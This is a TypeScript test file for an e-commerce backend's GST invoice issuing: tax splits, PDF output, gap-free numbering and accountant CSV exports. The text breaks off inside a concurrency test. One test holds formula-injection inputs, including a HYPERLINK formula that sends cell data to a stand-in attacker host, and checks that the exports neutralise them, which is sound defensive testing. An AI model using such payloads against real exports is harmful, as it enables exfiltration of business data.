import type {
  AdminOrder,
  InvoiceExportJob,
  InvoiceList,
  Job,
  Order,
  OrderStatusChange,
  ProductListResponse,
} from '@storefront/contract';
import { financialYearOf, invoiceNumber, orderStatusChangeSchema } from '@storefront/contract';
import { eq, inArray, sql } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { finishedJob } from '../../test/jobs';
import { openDatabase, queryRows } from '../../db/client';
import {
  invoiceCounters,
  invoices,
  orderItems,
  orders,
  products,
  productVariants,
  stores,
} from '../../db/schema';
import { defaultStore } from '../../seed/store';
import { DEFAULT_RATE_LIMITS } from '../../lib/rate-limit-policy';
import { readPdf } from '../../test/pdf-text';
import { addStaff, asStaff, signInStaff } from '../../test/staff';
import {
  createTestApp,
  createTestDatabase,
  drivers,
  signUp,
  type TestApp,
  type TestDatabase,
  testShippingAddress,
} from '../../test/test-app';
import { createAdminOrderService } from '../orders';
import { renderInvoicePdf } from './invoice-pdf';
import { buildInvoiceData, draftInvoice, issueInvoice } from './issue';

const PROCESSING = 1;
const SHIPPED = 2;
const CANCELLED = 4;
const SHIP = orderStatusChangeSchema.parse({
  status: SHIPPED,
  carrier: 'Delhivery',
  trackingNumber: 'DLV1',
});

/** A Delhi delivery, the sample shop's own state: CGST + SGST. */
const DELHI = {
  ...testShippingAddress,
  address: '7, Kamla Nagar',
  city: 'Delhi',
  state: 'NCT of Delhi',
  postalCode: '110007',
};

/**
 * The order of the hand-computed figures: 2 × ₹1,099 wall mount at 18 %, 3 × ₹1,399 saree at
 * 5 %, 1 × ₹1,199 vase set at 5 %: ₹7,594 in all.
 *   2,19,800 / 1.18 = 1,86,271.19 → 1,86,271 taxable; tax 33,529 (CGST 16,765, SGST 16,764)
 *   4,19,700 / 1.05 = 3,99,714.29 → 3,99,714 taxable; tax 19,986 (9,993 each)
 *   1,19,900 / 1.05 = 1,14,190.48 → 1,14,190 taxable; tax 5,710 (2,855 each)
 */
const TITLES = {
  mount: 'Tilting TV Wall Mount for 32"-65" TVs',
  saree: 'Cotton Handloom Saree, Blue',
  vase: 'Handcrafted Terracotta Vase Set of 3',
};
const EXPECTED_TOTALS = {
  quantity: 6,
  amountPaise: 759_400,
  taxablePaise: 700_175,
  taxPaise: 59_225,
};

describe('the invoice as issued', () => {
  const store = {
    ...defaultStore,
    legalName: defaultStore.legalName,
    registeredAddress: defaultStore.registeredAddress,
  };
  const order = {
    id: 'K7M2P9QX4R',
    createdAt: new Date('2026-11-18T10:00:00Z'),
    fullName: 'Asha Verma',
    address: '7, Kamla Nagar',
    city: 'Delhi',
    state: 'New Delhi',
    postalCode: '110007',
    phone: '+919845012345',
  };
  const lines = [
    {
      title: TITLES.mount,
      size: null,
      color: 'Black',
      quantity: 2,
      unitPricePaise: 109_900,
      hsn: '830250',
      gstRate: 18,
      netQuantity: '1 N',
    },
    {
      title: 'Everyday Lace-Up Sneakers',
      size: '9',
      color: 'White',
      quantity: 1,
      unitPricePaise: 149_900,
      hsn: '640419',
      gstRate: 5,
      netQuantity: '1 pair',
    },
  ];
  const build = (state: string, postalCode = '110007') =>
    buildInvoiceData({
      number: 'CK/26-27/00007',
      financialYear: '2026-27',
      issuedAt: new Date('2026-11-20T06:30:00Z'),
      store,
      order: { ...order, state, postalCode },
      lines,
    });

  it('splits tax into CGST and SGST when the goods stay in the shop’s state', () => {
    const invoice = build('New Delhi');
    expect(invoice.intraState).toBe(true);
    expect(invoice.placeOfSupply).toEqual({ code: '07', name: 'Delhi' });
    // 2,19,800 / 1.18 → 1,86,271; tax 33,529 → 16,765 + 16,764.
    // 1,49,900 / 1.05 = 1,42,761.90 → 1,42,762; tax 7,138 → 3,569 + 3,569.
    expect(
      invoice.lines.map((line) => [
        line.description,
        line.unit,
        line.taxablePaise,
        line.cgstPaise,
        line.sgstPaise,
        line.igstPaise,
      ]),
    ).toEqual([
      [`${TITLES.mount} (Black)`, 'NOS', 186_271, 16_765, 16_764, 0],
      ['Everyday Lace-Up Sneakers (9, White)', 'PRS', 142_762, 3_569, 3_569, 0],
    ]);
    expect(invoice.totals).toEqual({
      quantity: 3,
      amountPaise: 369_700,
      taxablePaise: 329_033,
      cgstPaise: 20_334,
      sgstPaise: 20_333,
      igstPaise: 0,
      taxPaise: 40_667,
    });
    expect(invoice.amountInWords).toBe('Rupees Three Thousand Six Hundred Ninety Seven Only');
    expect(invoice.supplier).toMatchObject({
      legalName: 'Chitra Retail Private Limited',
      gstin: '07AAECC4321K1ZT',
      state: { code: '07', name: 'Delhi' },
    });
    expect(invoice.reverseCharge).toBe(false);
  });

  it('charges IGST when they go to another state, read from its name or else its PIN code', () => {
    for (const [state, postalCode] of [
      ['Karnataka', '560001'],
      ['Karnatak', '560001'],
    ] as const) {
      const invoice = build(state, postalCode);
      expect(invoice.intraState).toBe(false);
      expect(invoice.placeOfSupply).toEqual({ code: '29', name: 'Karnataka' });
      expect(invoice.buyer.state).toEqual({ code: '29', name: 'Karnataka' });
      expect(invoice.lines.map((line) => line.igstPaise)).toEqual([33_529, 7_138]);
      expect(invoice.totals).toMatchObject({ cgstPaise: 0, sgstPaise: 0, igstPaise: 40_667 });
    }
  });

  it('renders an A4 PDF that opens and shows the number, GSTINs, figures and words', async () => {
    const invoice = build('Karnataka', '560001');
    const pdf = await renderInvoicePdf(invoice);
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    const read = await readPdf(pdf);
    expect(read.pages).toBe(1);
    expect(read.sizes).toEqual([[595.28, 841.89]]);
    expect(read.title).toBe('Tax invoice CK/26-27/00007');
    for (const shown of [
      'TAX INVOICE',
      'कर बीजक',
      'CK/26-27/00007',
      'GSTIN: 07AAECC4321K1ZT',
      'Place of supply 29-Karnataka',
      '20-Nov-2026',
      '830250',
      'PRS',
      '1,862.71',
      'IGST rate',
      'IGST @ 18% ₹335.29',
      'IGST @ 5% ₹71.38',
      'Invoice total ₹3,697.00',
      'Rupees Three Thousand Six Hundred Ninety Seven Only',
      'Tax is not payable on reverse charge.',
      'The billing address is the delivery address.',
    ]) {
      expect(read.text, shown).toContain(shown);
    }
    // The same invoice, the same bytes: an e-mail retry attaches the very same file.
    expect((await renderInvoicePdf(invoice)).equals(pdf)).toBe(true);
  });

  it('shows CGST and SGST within the state each at its own rate, half the GST rate', async () => {
    const read = await readPdf(await renderInvoicePdf(build('New Delhi')));
    for (const shown of [
      'CGST rate',
      'SGST rate',
      // The 18% mount: 9% + 9%; the 5% sneakers: 2.5% + 2.5%.
      'CGST @ 9% ₹167.65',
      'SGST @ 9% ₹167.64',
      'CGST @ 2.5% ₹35.69',
      'SGST @ 2.5% ₹35.69',
      'Total tax ₹406.67',
    ]) {
      expect(read.text, shown).toContain(shown);
    }
    // Never the combined rate, which would read as 18% of each.
    expect(read.text).not.toContain('18%');
    expect(read.text).not.toMatch(/\bGST rate/);
    expect(read.text).not.toContain('IGST');
  });

  it('runs onto a second page when the lines do not fit one', async () => {
    const long = buildInvoiceData({
      number: 'CK/26-27/00008',
      financialYear: '2026-27',
      issuedAt: new Date('2026-11-20T06:30:00Z'),
      store,
      order,
      lines: Array.from({ length: 40 }, (_, index) => ({ ...lines[0]!, title: `Mount ${index}` })),
    });
    const read = await readPdf(await renderInvoicePdf(long));
    expect(read.pages).toBeGreaterThan(1);
    expect(read.sizes.every(([width, height]) => width === 595.28 && height === 841.89)).toBe(true);
    expect(read.text).toContain('Mount 39');
  });
});

describe.each(drivers)('tax invoices on %s', (driver) => {
  let t: TestApp;
  let shopper: Awaited<ReturnType<typeof signUp>>;
  let other: Awaited<ReturnType<typeof signUp>>;
  let manager: string;
  let packer: string;
  let productIds: Map<string, string>;

  beforeAll(async () => {
    t = await createTestApp(driver, {
      rateLimits: { ...DEFAULT_RATE_LIMITS, ordersPerAccountPerHour: 1_000 },
    });
    await addStaff(t, { email: 'invoice-manager@example.in', role: 'manager' });
    await addStaff(t, { email: 'invoice-packer@example.in', role: 'fulfilment' });
    [manager, packer] = await Promise.all([
      signInStaff(t.app, 'invoice-manager@example.in'),
      signInStaff(t.app, 'invoice-packer@example.in'),
    ]);
    shopper = await signUp(t.app);
    other = await signUp(t.app);
    // Stock is not what these tests are about.
    await t.db.update(productVariants).set({ stock: null });
    const listed = await t.app.inject({ method: 'GET', url: '/api/v1/products?limit=100' });
    productIds = new Map(
      listed.json<ProductListResponse>().data.map((product) => [product.title, product.id]),
    );
  });
  afterAll(async () => {
    await t?.close();
  });

  async function place(address = DELHI): Promise<Order> {
    const mount = productIds.get(TITLES.mount)!;
    const saree = productIds.get(TITLES.saree)!;
    const vase = productIds.get(TITLES.vase)!;
    const response = await t.app.inject({
      method: 'POST',
      url: '/api/v1/orders',
      headers: shopper.auth,
      payload: {
        products: { [mount]: 2, [saree]: 3, [vase]: 1 },
        items: [
          { productId: mount, quantity: 2, color: 'Black' },
          { productId: saree, quantity: 3, size: 'One Size', color: 'Blue' },
          { productId: vase, quantity: 1, color: 'Terracotta' },
        ],
        shippingAddress: address,
      },
    });
    expect(response.statusCode, response.body).toBe(201);
    return response.json<Order>();
  }

  const move = (id: string, change: OrderStatusChange, cookie = packer) =>
    asStaff(t.app, cookie, {
      method: 'POST',
      url: `/api/v1/admin/orders/${id}/status`,
      payload: change,
    });

  async function placeProcessing(address = DELHI): Promise<Order> {
    const order = await place(address);
    const moved = await move(order.id, { status: PROCESSING, reference: 'UTR 42' }, manager);
    expect(moved.statusCode, moved.body).toBe(200);
    return order;
  }

  const shopperInvoice = (id: string, auth: Record<string, string> = shopper.auth) =>
    t.app.inject({ method: 'GET', url: `/api/v1/orders/${id}/invoice`, headers: auth });

  it('shows the price breakup on the order: items, free delivery, GST included, total', async () => {
    const order = await place();
    // The GST worked back from each line as sold: 33,529 + 19,986 + 5,710 paise.
    expect(order.priceBreakup).toEqual({
      items: 7594,
      delivery: 0,
      gstIncluded: 592.25,
      total: 7594,
    });
    expect(order.invoice).toBeNull();
    const listed = await t.app.inject({
      method: 'GET',
      url: '/api/v1/orders',
      headers: shopper.auth,
    });
    expect(listed.json<Order[]>()[0]).toMatchObject({
      id: order.id,
      priceBreakup: order.priceBreakup,
    });
    const tracked = await t.app.inject({
      method: 'GET',
      url: `/api/v1/orders/${order.id}?contactInfo=${encodeURIComponent(shopper.email)}`,
    });
    expect(tracked.json<Order>().priceBreakup).toEqual(order.priceBreakup);
  });

  it('issues the invoice when the order ships, with the hand-computed figures, and the shopper downloads it', async () => {
    const order = await placeProcessing();
    const before = await shopperInvoice(order.id);
    expect(before.statusCode).toBe(404);
    expect(before.json().error).toMatch(/issued when the order ships/);

    const shipped = await move(order.id, SHIP);
    expect(shipped.statusCode, shipped.body).toBe(200);
    const detail = shipped.json<AdminOrder>();
    expect(detail.invoice?.number).toMatch(/^CK\/\d\d-\d\d\/\d{5}$/);
    expect(detail.priceBreakup.gstIncluded).toBe(592.25);

    const [row] = await t.db.select().from(invoices).where(eq(invoices.orderId, order.id));
    const data = row!.data;
    expect(data.intraState).toBe(true);
    expect(data.placeOfSupply).toEqual({ code: '07', name: 'Delhi' });
    expect(data.lines.map((line) => [line.hsn, line.ratePercent, line.taxablePaise])).toEqual([
      ['830250', 18, 186_271],
      ['5208', 5, 399_714],
      ['691390', 5, 114_190],
    ]);
    expect(data.totals).toEqual({
      ...EXPECTED_TOTALS,
      cgstPaise: 29_613,
      sgstPaise: 29_612,
      igstPaise: 0,
    });
    expect(data.amountInWords).toBe('Rupees Seven Thousand Five Hundred Ninety Four Only');

    const mine = (
      await t.app.inject({
        method: 'GET',
        url: `/api/v1/orders/${order.id}`,
        headers: shopper.auth,
      })
    ).json<Order>();
    expect(mine.invoice).toEqual({ number: row!.number, issuedAt: row!.issuedAt.toISOString() });

    const download = await shopperInvoice(order.id);
    expect(download.statusCode).toBe(200);
    expect(download.headers['content-type']).toBe('application/pdf');
    expect(download.headers['content-disposition']).toBe(
      `attachment; filename="${row!.number.replace(/\//g, '-')}.pdf"`,
    );
    const read = await readPdf(download.rawPayload);
    expect(read.sizes[0]).toEqual([595.28, 841.89]);
    for (const shown of [
      row!.number,
      'GSTIN: 07AAECC4321K1ZT',
      'Taxable value ₹7,001.75',
      'CGST @ 9% ₹167.65',
      'SGST @ 9% ₹167.64',
      'CGST @ 2.5% ₹128.48',
      'SGST @ 2.5% ₹128.48',
      'Invoice total ₹7,594.00',
      'Place of supply 07-Delhi',
    ]) {
      expect(read.text, shown).toContain(shown);
    }

    // Staff of every role that sees orders download the same file.
    const staffCopy = await asStaff(t.app, packer, {
      method: 'GET',
      url: `/api/v1/admin/orders/${order.id}/invoice`,
    });
    expect(staffCopy.statusCode).toBe(200);
    expect(staffCopy.rawPayload.equals(download.rawPayload)).toBe(true);
  });

  it('keeps an issued invoice as it was when settings and products change later', async () => {
    const order = await placeProcessing({ ...testShippingAddress });
    expect((await move(order.id, SHIP)).statusCode).toBe(200);
    const first = (await shopperInvoice(order.id)).rawPayload;
    await t.db.update(stores).set({ legalName: 'Renamed Retail LLP', invoicePrefix: 'ZZ' });
    try {
      const again = await shopperInvoice(order.id);
      expect(again.rawPayload.equals(first)).toBe(true);
      expect((await readPdf(again.rawPayload)).text).not.toContain('Renamed Retail');
    } finally {
      await t.db.update(stores).set({ legalName: defaultStore.legalName, invoicePrefix: 'CK' });
    }
  });

  it('charges IGST on an order to another state', async () => {
    const order = await placeProcessing({ ...testShippingAddress });
    expect((await move(order.id, SHIP)).statusCode).toBe(200);
    const [row] = await t.db.select().from(invoices).where(eq(invoices.orderId, order.id));
    expect(row!.data.placeOfSupply).toEqual({ code: '29', name: 'Karnataka' });
    expect(row!.data.totals).toEqual({
      ...EXPECTED_TOTALS,
      cgstPaise: 0,
      sgstPaise: 0,
      igstPaise: 59_225,
    });
  });

  it('answers 404 for someone else’s order, 401 without a token, and 404 for an unknown order', async () => {
    const order = await placeProcessing();
    expect((await move(order.id, SHIP)).statusCode).toBe(200);
    const theirs = await shopperInvoice(order.id, other.auth);
    expect(theirs.statusCode).toBe(404);
    expect(theirs.json()).toEqual({ error: 'Order not found or access denied' });
    expect(
      (await t.app.inject({ method: 'GET', url: `/api/v1/orders/${order.id}/invoice` })).statusCode,
    ).toBe(401);
    expect((await shopperInvoice('ZZZZZZZZZZ')).statusCode).toBe(404);
  });

  it('issues none for an order cancelled before it shipped', async () => {
    const order = await placeProcessing();
    expect(
      (await move(order.id, { status: CANCELLED, reason: 'Asked to cancel' }, manager)).statusCode,
    ).toBe(200);
    expect((await shopperInvoice(order.id)).statusCode).toBe(404);
    const staffCopy = await asStaff(t.app, manager, {
      method: 'GET',
      url: `/api/v1/admin/orders/${order.id}/invoice`,
    });
    expect(staffCopy.statusCode).toBe(404);
    expect(await t.db.select().from(invoices).where(eq(invoices.orderId, order.id))).toEqual([]);
  });

  it('refuses to ship a line without a GST rate, naming it, and takes no number', async () => {
    const order = await placeProcessing();
    const [counter] = await t.db.select().from(invoiceCounters);
    await t.db.update(orderItems).set({ gstRate: null }).where(eq(orderItems.orderId, order.id));
    await t.db.execute(sql`update products set gst_rate = null where title = ${TITLES.vase}`);
    try {
      const refused = await move(order.id, SHIP);
      expect(refused.statusCode).toBe(409);
      expect(refused.json().error).toContain(`"${TITLES.vase}" has no GST rate`);
    } finally {
      await t.db.execute(sql`update products set gst_rate = 5 where title = ${TITLES.vase}`);
    }
    expect((await t.db.select().from(invoiceCounters))[0]).toEqual(counter);
    // Lines from before orders kept their rate take the product's.
    expect((await move(order.id, SHIP)).statusCode).toBe(200);
  });

  it('gives a number back when the shipment’s transaction rolls back: none skipped', async () => {
    const order = await placeProcessing();
    const [row] = await t.db.select().from(orders).where(eq(orders.id, order.id));
    const [counter] = await t.db.select().from(invoiceCounters);
    await expect(
      t.db.transaction(async (tx) => {
        await issueInvoice(tx, (await draftInvoice(tx, row!, new Date()))!);
        throw new Error('the shipment failed after its invoice');
      }),
    ).rejects.toThrow('the shipment failed');
    expect((await t.db.select().from(invoiceCounters))[0]).toEqual(counter);
    expect((await move(order.id, SHIP)).statusCode).toBe(200);
    const [issued] = await t.db.select().from(invoices).where(eq(invoices.orderId, order.id));
    expect(issued!.seq).toBe(counter!.lastSeq + 1);
  });

  it('starts the numbers again at 1 on 1 April, at midnight IST', async () => {
    const staff = { staffId: null, email: 'terminal' } as const;
    const [store] = await t.db.select().from(stores).where(eq(stores.isDefault, true));
    const shipAt = (iso: string) => createAdminOrderService(t.db, { now: () => Date.parse(iso) });
    const lastOfYear = await placeProcessing();
    const firstOfYear = await placeProcessing();
    // 23:59:59 IST on 31 March 2031, then 00:30 IST on 1 April 2031.
    await shipAt('2031-03-31T18:29:59Z').changeStatus(store!.id, staff, lastOfYear.id, SHIP);
    await shipAt('2031-03-31T19:00:00Z').changeStatus(store!.id, staff, firstOfYear.id, SHIP);
    const numbers = await t.db
      .select({ orderId: invoices.orderId, number: invoices.number, year: invoices.financialYear })
      .from(invoices)
      .where(sql`${invoices.orderId} in (${lastOfYear.id}, ${firstOfYear.id})`);
    expect(Object.fromEntries(numbers.map((row) => [row.orderId, [row.year, row.number]]))).toEqual(
      {
        [lastOfYear.id]: ['2030-31', 'CK/30-31/00001'],
        [firstOfYear.id]: ['2031-32', 'CK/31-32/00001'],
      },
    );
  });

  it('lists the month’s invoices and exports them for the accountant: lines, B2CS and B2CL', async () => {
    // A month of its own: two Delhi orders, one to Karnataka, one large one to Karnataka.
    const staff = { staffId: null, email: 'terminal' } as const;
    const [store] = await t.db.select().from(stores).where(eq(stores.isDefault, true));
    const service = createAdminOrderService(t.db, {
      now: () => Date.parse('2030-11-10T06:00:00Z'),
    });
    const delhi = [await placeProcessing(), await placeProcessing()];
    const karnataka = await placeProcessing({ ...testShippingAddress });
    const large = await placeProcessing({ ...testShippingAddress });
    // Over ₹1,00,000: 14 × ₹7,594 = ₹1,06,316.
    await t.db
      .update(orderItems)
      .set({ quantity: sql`${orderItems.quantity} * 14` })
      .where(eq(orderItems.orderId, large.id));
    for (const order of [...delhi, karnataka, large]) {
      await service.changeStatus(store!.id, staff, order.id, SHIP);
    }
    const exportOf = (format: string, cookie = manager) =>
      asStaff(t.app, cookie, {
        method: 'GET',
        url: `/api/v1/admin/invoices/export?month=2030-11&format=${format}`,
      });

    const listed = await asStaff(t.app, manager, {
      method: 'GET',
      url: '/api/v1/admin/invoices?month=2030-11',
    });
    const list = listed.json<InvoiceList>();
    expect(list.pagination.total).toBe(4);
    expect(list.data.map((invoice) => invoice.orderId)).toEqual(
      [...delhi, karnataka, large].map((order) => order.id).reverse(),
    );
    expect(list.data.at(-1)).toMatchObject({
      placeOfSupply: '07-Delhi',
      taxableValue: 7001.75,
      cgst: 296.13,
      sgst: 296.12,
      igst: 0,
      total: 7594,
      financialYear: '2030-31',
    });

    const lines = await exportOf('lines');
    expect(lines.statusCode).toBe(200);
    expect(lines.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(lines.headers['content-disposition']).toBe(
      'attachment; filename="invoices-2030-11-lines.csv"',
    );
    const rows = lines.body.trim().split('\n');
    expect(rows[0]).toBe(
      'Invoice Number,Invoice Date,Order,Buyer Name,Buyer State,Place Of Supply,Description,HSN,Quantity,Unit,Rate,Taxable Value,CGST,SGST,IGST,Total',
    );
    expect(rows).toHaveLength(1 + 4 * 3);
    expect(rows[1]).toMatch(
      /^CK\/30-31\/\d{5},10-Nov-2030,\w{10},Asha Verma,07-Delhi,07-Delhi,"Tilting TV Wall Mount for 32""-65"" TVs \(Black\)",830250,2,NOS,18,1862\.71,167\.65,167\.64,0\.00,2198\.00$/,
    );

    // B2CS: the large inter-state invoice is left to B2CL; the rest summed by state and rate.
    const b2cs = (await exportOf('b2cs')).body.trim().split('\n');
    expect(b2cs).toEqual([
      'Type,Place Of Supply,Rate,Applicable % of Tax Rate,Taxable Value,Cess Amount,E-Commerce GSTIN',
      'OE,07-Delhi,5,,10278.08,,',
      'OE,07-Delhi,18,,3725.42,,',
      'OE,29-Karnataka,5,,5139.04,,',
      'OE,29-Karnataka,18,,1862.71,,',
    ]);
    const b2cl = (await exportOf('b2cl')).body.trim().split('\n');
    expect(b2cl[0]).toBe(
      'Invoice Number,Invoice date,Invoice Value,Place Of Supply,Applicable % of Tax Rate,Rate,Taxable Value,Cess Amount,E-Commerce GSTIN',
    );
    expect(b2cl.slice(1).map((row) => row.split(',').slice(1))).toEqual([
      ['10-Nov-2030', '106316.00', '29-Karnataka', '', '5', expect.any(String), '', ''],
      ['10-Nov-2030', '106316.00', '29-Karnataka', '', '18', expect.any(String), '', ''],
    ]);

    // The back office makes the same files as jobs, with their progress, to download once done.
    for (const format of ['lines', 'b2cs', 'b2cl']) {
      const started = await asStaff(t.app, manager, {
        method: 'POST',
        url: '/api/v1/admin/invoices/exports',
        payload: { month: '2030-11', format },
      });
      expect(started.statusCode, started.body).toBe(202);
      const job = await finishedJob<InvoiceExportJob>(t.app, manager, started.json<Job>().id);
      expect(job).toMatchObject({
        kind: 'invoice-export',
        status: 'done',
        month: '2030-11',
        format,
        result: { invoices: 4 },
        progress: { done: 4, total: 4, stage: 'exporting' },
        download: `/jobs/${job.id}/download`,
      });
      const file = await asStaff(t.app, manager, {
        method: 'GET',
        url: `/api/v1/admin${job.download}`,
      });
      expect(file.headers['content-disposition']).toBe(
        `attachment; filename="invoices-2030-11-${format}.csv"`,
      );
      expect(file.body).toBe((await exportOf(format)).body);
      // A packer can neither start one nor follow it.
      expect(
        (await asStaff(t.app, packer, { method: 'GET', url: `/api/v1/admin${job.download}` }))
          .statusCode,
      ).toBe(403);
    }
    const refused = await asStaff(t.app, packer, {
      method: 'POST',
      url: '/api/v1/admin/invoices/exports',
      payload: { month: '2030-11' },
    });
    expect(refused.statusCode).toBe(403);
    const badJobMonth = await asStaff(t.app, manager, {
      method: 'POST',
      url: '/api/v1/admin/invoices/exports',
      payload: { month: 'November' },
    });
    expect(badJobMonth.statusCode).toBe(400);
    expect(badJobMonth.json().error).toMatch(/^month: /);

    // The books are for owners and managers; a bad month is a 400 naming the field.
    expect((await exportOf('lines', packer)).statusCode).toBe(403);
    const badMonth = await asStaff(t.app, manager, {
      method: 'GET',
      url: '/api/v1/admin/invoices/export?month=2030-13',
    });
    expect(badMonth.statusCode).toBe(400);
    expect(badMonth.json().error).toMatch(/^month: /);
  });

  it('writes no cell of any export that a spreadsheet would run as a formula', async () => {
    const staff = { staffId: null, email: 'terminal' } as const;
    const [store] = await t.db.select().from(stores).where(eq(stores.isDefault, true));
    const service = createAdminOrderService(t.db, {
      now: () => Date.parse('2030-12-10T06:00:00Z'),
    });
    // The buyer's name is what the shopper typed; the large inter-state order goes to B2CL,
    // the other to B2CS.
    const name = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    const small = await placeProcessing({ ...testShippingAddress, fullName: name });
    const large = await placeProcessing({ ...testShippingAddress, fullName: name });
    await t.db
      .update(orderItems)
      .set({ quantity: sql`${orderItems.quantity} * 14` })
      .where(eq(orderItems.orderId, large.id));
    for (const order of [small, large]) {
      await service.changeStatus(store!.id, staff, order.id, SHIP);
    }
    // Nothing else in them is typed by a shopper today; an export trusts no stored text either.
    await t.db
      .update(invoices)
      .set({
        data: sql`jsonb_set(jsonb_set(${invoices.data}, '{number}', '"@SUM(1+1)"'), '{placeOfSupply,code}', '"+29"')`,
      })
      .where(inArray(invoices.orderId, [small.id, large.id]));
    const exportOf = async (format: string) => {
      const response = await asStaff(t.app, manager, {
        method: 'GET',
        url: `/api/v1/admin/invoices/export?month=2030-12&format=${format}`,
      });
      expect(response.statusCode).toBe(200);
      return (parse(response.body) as string[][]).slice(1);
    };

    const lines = await exportOf('lines');
    expect(lines.map((row) => row.slice(0, 6))).toEqual(
      [small, small, small, large, large, large].map((order) => [
        "'@SUM(1+1)",
        '10-Dec-2030',
        order.id,
        `'${name}`,
        '29-Karnataka',
        "'+29-Karnataka",
      ]),
    );
    expect(await exportOf('b2cs')).toEqual([
      ['OE', "'+29-Karnataka", '5', '', expect.stringMatching(/^\d+\.\d\d$/), '', ''],
      ['OE', "'+29-Karnataka", '18', '', expect.stringMatching(/^\d+\.\d\d$/), '', ''],
    ]);
    expect((await exportOf('b2cl')).map((row) => row.slice(0, 4))).toEqual([
      ["'@SUM(1+1)", '10-Dec-2030', '106316.00', "'+29-Karnataka"],
      ["'@SUM(1+1)", '10-Dec-2030', '106316.00', "'+29-Karnataka"],
    ]);
  });

  it('issues none, and counts no GST in the breakup, for a shop not registered for GST', async () => {
    const host = 'unregistered.example.in';
    const [store] = await t.db
      .insert(stores)
      .values({
        hosts: [host],
        storeName: 'Chhota Shop',
        companyName: 'Chhota Shop',
        companyAddress: 'Karol Bagh, Delhi 110005',
        companyPhone: '+91 98110 00000',
        companyEmail: 'hello@unregistered.example.in',
      })
      .returning();
    const [product] = await t.db
      .insert(products)
      .values({
        storeId: store!.id,
        title: 'Cable',
        category: 'Home',
        regularPrice: 11_800,
        gstRate: 18,
        hsn: '8544',
      })
      .returning({ id: products.id });
    const buyer = await signUp(t.app, { headers: { host } });
    const placed = await t.app.inject({
      method: 'POST',
      url: '/api/v1/orders',
      headers: buyer.auth,
      payload: { products: { [product!.id]: 1 }, shippingAddress: DELHI },
    });
    expect(placed.json<Order>().priceBreakup).toEqual({
      items: 118,
      delivery: 0,
      gstIncluded: 0,
      total: 118,
    });
    await addStaff(t, { email: 'chhota@example.in', role: 'owner', storeId: store!.id });
    const owner = await signInStaff(t.app, 'chhota@example.in', { host });
    const id = placed.json<Order>().id;
    for (const change of [{ status: PROCESSING, reference: 'UTR 7' }, SHIP]) {
      const moved = await asStaff(t.app, owner, {
        method: 'POST',
        url: `/api/v1/admin/orders/${id}/status`,
        host,
        payload: change,
      });
      expect(moved.statusCode, moved.body).toBe(200);
      expect(moved.json<AdminOrder>()).toMatchObject({
        invoice: null,
        priceBreakup: { gstIncluded: 0 },
      });
    }
    const download = await t.app.inject({
      method: 'GET',
      url: `/api/v1/orders/${id}/invoice`,
      headers: buyer.auth,
    });
    expect(download.statusCode).toBe(404);
  });

  it('answers the tax rules the product form follows', async () => {
    const rules = await asStaff(t.app, packer, { method: 'GET', url: '/api/v1/admin/tax-rules' });
    expect(rules.json()).toEqual({
      gstRates: [0, 5, 18, 40],
      hsnDigits: 4,
      rateList: [0, 5, 18, 40].map((ratePercent) => ({
        ratePercent,
        validFrom: '2025-09-22',
        validUntil: null,
      })),
    });
  });
});

describe.each(drivers)('invoice numbers under concurrent shipments on %s', (driver) => {
  // 200 on PostgreSQL, from two API processes with pools of their own; fewer on PGlite, whose
  // one embedded database serialises everything anyway.
  const count = driver === 'postgres' ? 200 : 40;
  let database: TestDatabase;
  let second: TestDatabase | null = null;
  let first: TestApp;
  let other: TestApp;

  beforeAll(async () => {
    database = await createTestDatabase(driver);
    first = await createTestApp(driver, { database });
    if (database.url) {
      const handle = await openDatabase({ kind: 'postgres', url: database.url, poolMax: 5 });
      second = { handle, db: handle.db, close: () => handle.close() };
    }
    other = await createTestApp(driver, { database: second ?? database });
  });
  afterAll(async () => {
    await other?.close();
    await first?.close();
    await second?.close();
    await database?.close();
  });

  it(`numbers ${count} invoices shipped concurrently from two processes 1..${count}, no gap, no repeat`, async () => {
    await addStaff(first, { email: 'race@example.in', role: 'fulfilment' });
    const [cookieA, cookieB] = await Promise.all([
      signInStaff(first.app, 'race@example.in'),
      signInStaff(other.app, 'race@example.in'),
    ]);
    // Orders waiting to ship, written straight to the database: the race is the shipping.
    const [shopper] = await queryRows<{ id: number }>(
      first.db,
      sql`insert into users (store_id, email, password_hash, first_name, last_name)
          select id, 'race-shopper@example.in', 'x', 'Asha', 'Verma' from stores where is_default
          returning id`,
    );
    const ids = Array.from(
      { length: count },
      (_, index) => `RACE${String(index).padStart(6, '0')}`,
    );
    await first.db.execute(sql`
      insert into orders (id, store_id, user_id, status, email, phone, full_name, address, city,
                          state, postal_code, total_paise)
      select id, (select id from stores where is_default), ${shopper!.id}, ${PROCESSING},
             'race-shopper@example.in', '+919845012345', 'Asha Verma', '1 MG Road', 'Delhi',
             'Delhi', '110001', 64900
      from jsonb_array_elements_text(${JSON.stringify(ids)}::jsonb) as id`);
    await first.db.execute(sql`
      insert into order_items (order_id, title, unit_price_paise, quantity, hsn, gst_rate)
      select id, 'HDMI cable', 64900, 1, '854442', 18 from jsonb_array_elements_text(${JSON.stringify(ids)}::jsonb) as id`);

    // Each process ships its half with 16 shipments in flight at any moment, 32 at once in all.
    // (All 200 at once would have the last wait out every commit before it on the counter's
    // row: numbers must be taken one after another, and a loaded machine then passes the
    // pool's 5 s wait for a connection.)
    const ship = (app: TestApp, cookie: string, id: string) =>
      asStaff(app.app, cookie, {
        method: 'POST',
        url: `/api/v1/admin/orders/${id}/status`,
        payload: SHIP,
      });
    const halves = [
      { app: first, cookie: cookieA, ids: ids.filter((_, index) => index % 2 === 0) },
      { app: other, cookie: cookieB, ids: ids.filter((_, index) => index % 2 === 1) },
    ];
    const answers = (
      await Promise.all(
        halves.map(async ({ app, cookie, ids: mine }) => {
          const queue = [...mine];
          const done: Awaited<ReturnType<typeof ship>>[] = [];
          await Promise.all(
            Array.from({ length: 16 }, async () => {
              for (let id = queue.shift(); id; id = queue.shift()) {
                done.push(await ship(app, cookie, id));
              }
            }),
          );
          return done;
        }),
      )
    ).flat();
    expect(answers).toHaveLength(count);
    expect(
      answers.filter((answer) => answer.statusCode !== 200).map((answer) => answer.body),
    ).toEqual([]);
    const issued = await first.db
      .select({ seq: invoices.seq, number: invoices.number, orderId: invoices.orderId })
      .from(invoices);
    expect(issued).toHaveLength(count);
    expect(issued.map((row) => row.seq).sort((a, b) => a - b)).toEqual(
      Array.from({ length: count }, (_, index) => index + 1),
    );
